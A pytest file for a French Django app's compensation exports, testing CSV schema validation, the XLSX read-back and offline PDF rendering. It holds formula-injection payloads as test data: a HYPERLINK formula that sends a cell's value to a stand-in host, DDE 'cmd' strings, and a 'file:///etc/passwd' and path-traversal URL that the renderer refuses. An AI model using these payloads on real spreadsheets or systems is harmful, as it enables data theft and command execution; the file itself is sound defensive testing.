"""The exports of indemnisation with their libraries: the CPAM CSV validated by frictionless against its published
Table Schema (and a corrupted file refused with the expected error), the XLSX read back with openpyxl and compared to
the CSV rows, the statement PDF rendered by weasyprint from its template, without network (its HTML as a snapshot:
no PDF text extractor is installed here)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import logging
import re
import zlib
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from django.contrib.auth.models import User
from django.test import Client
from frictionless import Resource, Schema
from weasyprint.urls import URLFetchingError

from solidarite.annuaire.models import MedecinVolontaire
from solidarite.indemnisation import exports, pdf, services
from solidarite.indemnisation.models import JourRealise, LigneReleve, Releve
from tests.factories import agent_ars
from tests.snapshot import assert_snapshot, stable

pytestmark = pytest.mark.django_db
NOV = dt.date(2026, 11, 1)


def _client(user: User) -> Client:
    client = Client()
    client.force_login(user)
    return client


def _paid_then_adjusted(world: dict[str, Any]) -> User:
    """October validated, transmitted, paid; then its half-day withdrawn: November carries a −100 € adjustment."""
    agent = agent_ars(world["region"].code)
    for action in ("valider", "transmettre", "payer"):
        services.avancer([world["releve"].pk], action, agent)
    JourRealise.objects.filter(mission__date=dt.date(2026, 10, 20)).delete()
    services.construire_mois(NOV, today=dt.date(2026, 11, 20))
    services.avancer([Releve.objects.get(mois=NOV).pk], "valider", agent)
    return agent


def _validate(text: str, schema: dict[str, Any]) -> Any:
    return Resource(data=text.encode(), format="csv", schema=Schema.from_descriptor(schema)).validate()


def _errors(report: Any) -> list[tuple[str, str]]:
    return [(field or "", kind) for field, kind in report.flatten(["fieldName", "type"])]


# --- CSV: frictionless against the published schema ---------------------------------------------------------


def test_the_cpam_csv_is_valid_against_its_published_schema(world) -> None:  # type: ignore[no-untyped-def]
    region = world["region"]
    agent = _client(agent_ars(region.code))
    url = f"/indemnisation/ars/export/?region={region.code}&mois=2026-10"
    assert agent.get(url).content.decode().count("\n") == 1  # a draft is not exported to the CPAM
    Releve.objects.update(statut="valide")
    text = agent.get(url).content.decode()
    published = agent.get("/indemnisation/schema-cpam.json").json()
    assert published == exports.SCHEMA and published["version"] == exports.SCHEMA_VERSION
    report = _validate(text, published)
    assert report.valid, _errors(report)
    assert report.task.stats["rows"] == 2


def _corrupt(text: str, how: str) -> str:
    rows = list(csv.DictReader(io.StringIO(text)))
    columns = list(exports.COLUMNS)
    if how == "date":
        rows[0]["date"] = "2026-10-32"
    elif how == "montant negatif":
        rows[0]["taux"] = "-200.00"
    elif how == "colonne manquante":
        columns.remove("consultations")
        for row in rows:
            del row["consultations"]
    elif how == "cle en double":
        rows[1]["mission"] = rows[0]["mission"]
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=columns, lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("how", "expected"),
    [
        ("date", [("date", "type-error")]),
        ("montant negatif", [("taux", "constraint-error")]),
        # the columns are matched by position: the 15th header is not `consultations`, the 16th is missing
        ("colonne manquante", [("consultations", "incorrect-label"), ("motif", "missing-label")]),
        ("cle en double", [("", "primary-key")]),
    ],
)
def test_a_corrupted_csv_is_refused_by_the_schema(world, how: str, expected: list[tuple[str, str]]) -> None:  # type: ignore[no-untyped-def]
    Releve.objects.update(statut="valide")
    releves = Releve.objects.select_related("medecin", "region").prefetch_related("lignes")
    text = exports.csv_text(exports.rows(releves))
    assert _validate(text, exports.SCHEMA).valid
    report = _validate(_corrupt(text, how), exports.SCHEMA)
    assert not report.valid
    assert all(e in _errors(report) for e in expected), _errors(report)


# --- XLSX: openpyxl, read back against the CSV ----------------------------------------------------------------


def _as_csv_value(name: str, value: Any) -> str:
    """An XLSX cell as the CSV writes it: the way back from typed cells to the schema's text."""
    if value is None:
        return ""
    if name == "mois":
        return f"{value:%Y-%m}"
    if isinstance(value, dt.datetime):
        return value.date().isoformat()
    if name in ("taux", "montant"):
        return f"{Decimal(str(value)):.2f}"
    return str(value)


def test_the_xlsx_read_back_equals_the_csv_rows(world) -> None:  # type: ignore[no-untyped-def]
    _paid_then_adjusted(world)
    releves = Releve.objects.select_related("medecin", "region").prefetch_related("lignes")
    data = exports.rows(releves)
    expected = list(csv.DictReader(io.StringIO(exports.csv_text(data))))
    assert [r["genre"] for r in expected] == ["jour", "jour", "ajustement"]
    assert expected[2]["montant"] == "-100.00" and expected[2]["motif"]
    sheet = openpyxl.load_workbook(io.BytesIO(exports.xlsx(data))).active
    assert sheet.title == "Indemnités" and sheet.freeze_panes == "A2"
    header, *body = list(sheet.iter_rows())
    assert [c.value for c in header] == [f["title"] for f in exports.SCHEMA["fields"]]
    assert all(c.font.b for c in header)
    assert sheet.column_dimensions["F"].width == exports.WIDTHS["nom"]
    read = [{n: _as_csv_value(n, c.value) for n, c in zip(exports.COLUMNS, row, strict=True)} for row in body]
    assert read == expected
    cells = dict(zip(exports.COLUMNS, body[2], strict=True))
    assert cells["montant"].data_type == "n" and cells["montant"].value == -100
    assert "€" in cells["montant"].number_format and "€" in cells["taux"].number_format
    assert cells["date"].is_date and cells["date"].number_format == exports.DATE_FORMAT
    assert cells["mois"].is_date and cells["releve"].data_type == "n" and cells["rpps"].data_type == "s"


def test_the_xlsx_export_of_the_ars(world) -> None:  # type: ignore[no-untyped-def]
    region = world["region"]
    Releve.objects.update(statut="valide")
    response = _client(agent_ars(region.code)).get(
        f"/indemnisation/ars/export/?region={region.code}&mois=2026-10&format=xlsx"
    )
    assert response["Content-Type"] == exports.XLSX_TYPE
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert [c.value for c in sheet["N"]][1:] == [200, 100]


# --- Formula injection: a text typed by a person is never a formula in the exports -------------------------

FORMULA_NAME = '=HYPERLINK("http://exemple.invalid/?x="&A2,"Moreau")'
FORMULA_FIRST_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_REASON = "-1 demi-journée +cmd|' /C calc'!A0"


def test_a_name_written_as_a_formula_stays_a_text_in_both_exports(world) -> None:  # type: ignore[no-untyped-def]
    """The probe of 6 December: a volunteer named « =HYPERLINK(…) » was a live formula in the ARS's XLSX and a raw
    « =… » in the CPAM's CSV. Now a text cell (and an apostrophe in the CSV); the −100 € adjustment stays a
    number in both."""
    agent = _paid_then_adjusted(world)
    MedecinVolontaire.objects.filter(pk=world["doc"].pk).update(nom=FORMULA_NAME, prenom=FORMULA_FIRST_NAME)
    LigneReleve.objects.filter(genre="ajustement").update(motif=FORMULA_REASON)
    url = f"/indemnisation/ars/export/?region={world['region'].code}&mois=2026-11"
    client = _client(agent)
    sheet = openpyxl.load_workbook(io.BytesIO(client.get(url + "&format=xlsx").content)).active
    body = list(sheet.iter_rows(min_row=2))
    assert body and not [c.coordinate for row in body for c in row if c.data_type == "f"]
    cells = dict(zip(exports.COLUMNS, body[0], strict=True))
    assert (cells["nom"].value, cells["nom"].data_type) == (FORMULA_NAME, "s")  # the name itself, as text
    assert (cells["prenom"].value, cells["prenom"].data_type) == (FORMULA_FIRST_NAME, "s")
    assert (cells["motif"].value, cells["motif"].data_type) == (FORMULA_REASON, "s")
    assert cells["nom"].quotePrefix  # editing the cell in Excel keeps it a text
    assert (cells["montant"].value, cells["montant"].data_type) == (-100, "n")
    rows = list(csv.DictReader(io.StringIO(client.get(url).content.decode())))
    assert rows[0]["nom"] == "'" + FORMULA_NAME and rows[0]["prenom"] == "'" + FORMULA_FIRST_NAME
    assert rows[0]["motif"] == "'" + FORMULA_REASON and rows[0]["montant"] == "-100.00"


@pytest.mark.parametrize(
    ("name", "in_csv"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\n'=1+1"),  # a bare carriage return ended the row: quoted as a line break in the cell
        ("Moreau\r=1+1", "Moreau\n'=1+1"),  # … and began a new row with a formula
        ("Moreau-Durand", "Moreau-Durand"),
    ],
)
def test_every_formula_start_is_neutralised_in_the_csv_and_the_xlsx(world, name: str, in_csv: str) -> None:  # type: ignore[no-untyped-def]
    """OWASP's list of formula starts (and a name merely holding a hyphen, left as it is)."""
    MedecinVolontaire.objects.filter(pk=world["doc"].pk).update(nom=name, prenom="A\x07lice")
    data = exports.rows(Releve.objects.select_related("medecin", "region").prefetch_related("lignes"))
    text = exports.csv_text(data)
    # Read as a spreadsheet reads it: a bare carriage return would end a row.
    header, *body = list(csv.reader(io.StringIO(text, newline="")))
    assert header == exports.COLUMNS and {row[5] for row in body} == {in_csv} and len(body) == 2
    sheet = openpyxl.load_workbook(io.BytesIO(exports.xlsx(data))).active  # the bell was a 500
    names = [(row[5].value, row[5].data_type, row[6].value) for row in sheet.iter_rows(min_row=2)]
    # XML reads a carriage return as a line feed; the bell, which XML cannot hold, is dropped.
    assert names == [(name.replace("\r", "\n"), "s", "Alice")] * 2


def test_the_national_totals_keep_a_region_s_name_a_text_and_amounts_numbers() -> None:
    amounts = {"montant_brouillon": Decimal(300), "montant_valide": Decimal(0), "montant_conteste": None}
    rows = [
        {
            "region__code": "84",
            "region__nom": "=1+1",
            "mois": NOV,
            "releves": 2,
            **amounts,
            "montant_paye": -100,
        },
        {
            "region__code": "11",
            "region__nom": "Île-de-France",
            "mois": NOV,
            "releves": 1,
            **amounts,
            "montant_paye": 0,
        },
    ]
    lines = exports.totaux_csv(rows).splitlines()
    assert (
        lines[0]
        == "region,nom_region,mois,releves,montant_brouillon,montant_valide,montant_paye,montant_conteste"
    )
    assert lines[1:] == [
        "84,'=1+1,2026-11,2,300.00,0.00,-100.00,0.00",
        "11,Île-de-France,2026-11,1,300.00,0.00,0.00,0.00",
    ]


# --- What goes to the CPAM (decision 0026) ---------------------------------------------------------------------


def test_the_cpam_file_holds_contested_statements_apart(world) -> None:  # type: ignore[no-untyped-def]
    """October paid then contested, November validated (−100 €): the paying file lists November only; October, held,
    is in the file of the contested (same schema) and in the XLSX's second sheet: nothing silently dropped."""
    agent = _client(_paid_then_adjusted(world))
    services.contester(world["releve"], world["user"], "Ma demi-journée du 20 octobre a bien été faite.")
    region = world["region"].code
    for mois, contested, expected in [
        ("2026-11", "", [("valide", "ajustement", "-100.00")]),
        ("2026-10", "", []),
        ("2026-10", "&contestes=1", [("conteste", "jour", "200.00"), ("conteste", "jour", "100.00")]),
    ]:
        response = agent.get(f"/indemnisation/ars/export/?region={region}&mois={mois}{contested}")
        assert response.status_code == 200
        text = response.content.decode()
        assert _validate(text, exports.SCHEMA).valid
        assert [
            (r["statut"], r["genre"], r["montant"]) for r in csv.DictReader(io.StringIO(text))
        ] == expected
    assert "-contestes.csv" in response["Content-Disposition"]
    book = openpyxl.load_workbook(
        io.BytesIO(agent.get(f"/indemnisation/ars/export/?region={region}&mois=2026-10&format=xlsx").content)
    )
    assert book.sheetnames == [exports.FEUILLE_CPAM, exports.FEUILLE_CONTESTES]
    assert book[exports.FEUILLE_CPAM].max_row == 1  # the header only
    statut = exports.COLUMNS.index("statut")
    assert [
        row[statut] for row in book[exports.FEUILLE_CONTESTES].iter_rows(min_row=2, values_only=True)
    ] == [
        "conteste",
        "conteste",
    ]
    bad = agent.get(f"/indemnisation/ars/export/?region={region}&mois=2026-10&contestes=oui")
    assert bad.status_code == 400 and "contestes=1" in bad.content.decode()
    page = agent.get(f"/indemnisation/ars/?region={region}&mois=2026-10").content.decode()
    assert "Relevés contestés (1)" in page and "contestés (suspendus) : 300,00 €" in page


def test_the_national_totals_keep_drafts_apart(world) -> None:  # type: ignore[no-untyped-def]
    """October's draft (300 €) is no amount validated nor paid; once paid then contested, it is held, not paid."""
    admin = _client(User.objects.create_superuser("ministere-t", "t@exemple.fr", "x" * 16))
    row = f"{world['region'].code},{world['region'].nom},2026-10,1"
    assert f"{row},300.00,0.00,0.00,0.00" in admin.get("/indemnisation/national/?format=csv").content.decode()
    page = admin.get("/indemnisation/national/").content.decode()
    assert "Brouillons (non validés) : <strong>300,00 €</strong>" in page
    assert "Payés : <strong>0,00 €</strong>" in page
    _paid_then_adjusted(world)
    text = admin.get("/indemnisation/national/?format=csv").content.decode()
    assert f"{row},0.00,0.00,300.00,0.00" in text and ",2026-11,1,0.00,-100.00,0.00,0.00" in text
    services.contester(world["releve"], world["user"], "Ma demi-journée du 20 octobre a bien été faite.")
    assert f"{row},0.00,0.00,0.00,300.00" in admin.get("/indemnisation/national/?format=csv").content.decode()
    assert exports.totaux_par_region(NOV)[0]["montant_valide"] == Decimal(-100)


# --- PDF: weasyprint from the template, nothing fetched -------------------------------------------------------


def _inflated(content: bytes) -> bytes:
    """The PDF with its compressed streams inflated (weasyprint puts the page tree in compressed object streams):
    enough to read the page count and the page size, not the text (drawn as glyph ids of subset fonts)."""
    parts = [content]
    for match in re.finditer(rb"/FlateDecode[^>]*>>\s*stream\r?\n", content):
        try:
            parts.append(zlib.decompressobj().decompress(content[match.end() :]))
        except zlib.error:
            continue
    return b"\n".join(parts)


def test_the_statement_pdf_is_rendered_from_its_template(world, caplog) -> None:  # type: ignore[no-untyped-def]
    client = _client(world["user"])
    with caplog.at_level(logging.WARNING, logger="weasyprint"):
        response = client.get(f"/indemnisation/medecin/releve/{world['releve'].pk}.pdf")
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    assert pdf.TEMPLATE in [t.name for t in response.templates]
    content = response.content
    assert content.startswith(b"%PDF-") and content.rstrip().endswith(b"%%EOF")
    objects = _inflated(content)
    pages = [int(n) for n in re.findall(rb"/Type\s*/Pages\b[^>]*?/Count\s+(\d+)", objects)]
    assert len(pages) == 1 and pages[0] >= 1
    assert re.search(rb"/MediaBox\s*\[\s*0 0 595\.\d+ 841\.\d+\s*\]", objects)  # A4
    assert not caplog.records, [r.getMessage() for r in caplog.records]  # the stylesheet was loaded


def test_the_statement_html_snapshot(world) -> None:  # type: ignore[no-untyped-def]
    _paid_then_adjusted(world)
    releve = Releve.objects.get(mois=dt.date(2026, 10, 1))
    services.contester(releve, world["user"], "Ma demi-journée du 20 octobre a bien été faite.")
    releve.refresh_from_db()
    html = pdf.releve_html(releve)
    for needle in (
        "Alice Durand",
        "10000000015",
        "Octobre 2026",
        "Demi-journée",
        "aucune coordonnée bancaire",
    ):
        assert needle in html
    text = stable(
        html,
        {re.escape(world["region"].nom): "<région>", rf"<dd>{releve.cpam}</dd>": "<dd><cpam></dd>"},
    )
    assert_snapshot("indemnisation/releve.html", text)
    november = pdf.releve_html(Releve.objects.get(mois=NOV))
    assert "Ajustement (journée retirée)" in november and "-100,00 €" in november


@pytest.mark.parametrize(
    "url",
    [
        "https://fonts.googleapis.com/css2?family=Marianne",
        "http://127.0.0.1/static/indemnisation/releve.css",
        "file:///etc/passwd",
        f"{pdf.STATIC.as_uri()}/../pdf.py",
        "data:text/css,body{}",
    ],
)
def test_rendering_fetches_nothing_but_local_static_files(url: str) -> None:
    with pytest.raises(URLFetchingError, match="Ressource refusée"):
        pdf.local_static_only(url)


def test_the_stylesheet_is_the_one_local_resource() -> None:
    fetched = pdf.local_static_only(f"{pdf.STATIC.as_uri()}/{pdf.STYLESHEET}")
    body = fetched.get("string") or fetched["file_obj"].read()
    assert b"size: A4" in body
